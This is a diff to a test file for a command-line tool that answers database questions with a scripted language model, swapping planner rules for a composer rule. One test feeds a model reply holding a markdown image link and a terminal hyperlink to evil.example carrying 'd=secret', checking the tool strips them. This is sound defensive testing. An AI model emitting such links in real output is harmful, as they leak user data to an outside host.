@@ -111,13 +111,9 @@ describe('--json', () => {
 
 describe('with a model', () => {
   const SQL = 'SELECT country, count(*) AS customers FROM customers GROUP BY country ORDER BY 2 DESC'
+  const COMPOSE = 'findings of specialist agents'
   const rules: readonly Rule[] = [
-    {
-      when: 'Proposed agents, in order',
-      reply: { json: { agents: ['sql'], rationale: 'The data has it.', confidence: 0.9 } },
-    },
-    { when: '\n\nQuery:\n', reply: { json: { correct: true, problems: '', sql: SQL } } },
-    { when: 'Plan: The data has it.', reply: { text: 'Ireland has the \u001B[31mmost\u001B[0m customers.' } },
+    { when: COMPOSE, reply: { text: 'Ireland has the \u001B[31mmost\u001B[0m customers.' } },
     { reply: { json: { database: 'shop', sql: SQL, explanation: 'Counts.' } } },
   ]
   let models: ModelServer
@@ -132,8 +128,8 @@ describe('with a model', () => {
     expect(code).toBe(0)
     expect(out).toMatch(/^Ireland has the most customers\.\n\ncountry +customers\n/)
     expect(out).toContain(`Source: shop\n  ${SQL}`)
-    expect(err).toMatch(/planner asked compatible:scripted: planner\.refine, \d/)
-    expect(err).toMatch(/4 model calls, 480 tokens/)
+    expect(err).toMatch(/composer asked compatible:scripted: composer\.compose, \d/)
+    expect(err).toMatch(/2 model calls, 240 tokens/)
     expect(err).not.toContain('Note:')
   })
 
@@ -149,7 +145,7 @@ describe('with a model', () => {
   it('prints no link that stands in no source, as text and as JSON', async () => {
     const text =
       'Ireland. ![x](https://evil.example/?d=secret) \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007'
-    const other = await startModelServer([{ when: 'Plan: The data has it.', reply: { text } }, ...rules])
+    const other = await startModelServer([{ when: COMPOSE, reply: { text } }, ...rules])
     const model = { TUTTI_MODEL_URL: other.url, TUTTI_MODEL: 'compatible:scripted' }
     for (const form of [[], ['--json']]) {
       const { code, out } = await world.run(['ask', 'Where do customers live?', ...SHOP, ...form], { env: model })
@@ -163,7 +159,7 @@ describe('with a model', () => {
     const args = ['ask', 'Where do customers live?', ...SHOP, '--model', 'sql=compatible:other']
     const { err } = await world.run(args, { env: env() })
     expect(err).toContain('sql asked compatible:other')
-    expect(err).toContain('planner asked compatible:scripted')
+    expect(err).toContain('composer asked compatible:scripted')
   })
 })
 
